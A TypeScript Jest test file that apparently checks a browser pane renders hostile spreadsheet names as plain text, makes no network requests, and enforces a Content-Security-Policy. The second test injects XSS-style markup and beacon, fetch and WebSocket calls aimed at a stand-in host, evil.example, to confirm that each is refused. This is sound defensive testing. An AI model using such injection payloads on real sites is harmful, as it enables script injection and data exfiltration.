import type { Tab } from "./host";
import { clients, HOSTILE, lines, TABS } from "../corpus/hostile";
import { PaneBrowser, type Pane } from "./browser";

// Browsers and other tests share the machine.
jest.setTimeout(120_000);

let browser: PaneBrowser;
let pane: Pane;
beforeAll(async () => {
  browser = await PaneBrowser.launch();
  const tabs = [lines, clients].map((cells, at): Tab => ({
    name: TABS[at],
    cells: cells.map((row) => [...row]),
  }));
  pane = await browser.open(tabs);
  await pane.looked();
});
afterAll(() => browser.close());

test("hostile names are text before and after a run; nothing is asked of the network", async () => {
  const asked: string[] = [];
  pane.page.on("request", (request) => asked.push(request.url()));
  const found = () => pane.find("#problems .found").allTextContents();
  const expected = HOSTILE.map((name) => `${name} soon`);
  expect(await found()).toEqual(expected);
  await pane.generate();
  await pane.status("done");
  expect(await found()).toEqual(expected);
  expect(await pane.find("#problems h3").allTextContents()).toEqual([TABS[0]]);
  expect(await pane.find("#xsell :is(img, script, b, iframe, object, embed, style)").count()).toBe(0);
  expect(asked).toEqual([]);
  expect(pane.said).toEqual([]);
});

// If a name ever got into the page as markup, this is what would stop it.
test("the page's Content-Security-Policy refuses scripts, connections, frames, forms and styles of others", async () => {
  const refused = await pane.page.evaluate(async () => {
    const heard = new Set<string>();
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      heard.add(effectiveDirective),
    );
    const state = window as unknown as { evil?: boolean };
    const holder = document.createElement("div");
    document.body.append(holder);
    holder.innerHTML = `<img src="https://evil.example/x.png" onerror="window.evil = true">
      <style>body { color: red }</style><iframe src="https://evil.example/"></iframe>
      <form action="https://evil.example/"></form><object data="https://evil.example/x"></object>`;
    const script = document.createElement("script");
    script.textContent = "window.evil = true";
    holder.append(script);
    // Behind a timer, for what a debugger calls may evaluate.
    const evaluated = await new Promise((told) =>
      setTimeout(() => {
        try {
          told(new Function("window.evil = true")());
        } catch {
          told("refused");
        }
      }),
    );
    const fetched = await fetch("https://evil.example/").catch(() => "refused");
    try {
      new WebSocket("wss://evil.example/");
    } catch {
      // Some browsers throw, some tell by the event alone.
    }
    navigator.sendBeacon("https://evil.example/", "x");
    holder.querySelector("form")?.submit();
    await new Promise((later) => setTimeout(later, 500));
    holder.remove();
    return { heard: [...heard].sort(), evil: state.evil ?? false, evaluated, fetched };
  });
  expect(refused).toEqual({
    heard: ["connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src"].concat(
      ["script-src-attr", "script-src-elem", "style-src-elem"],
    ), // prettier-ignore
    evil: false,
    evaluated: "refused",
    fetched: "refused",
  });
});
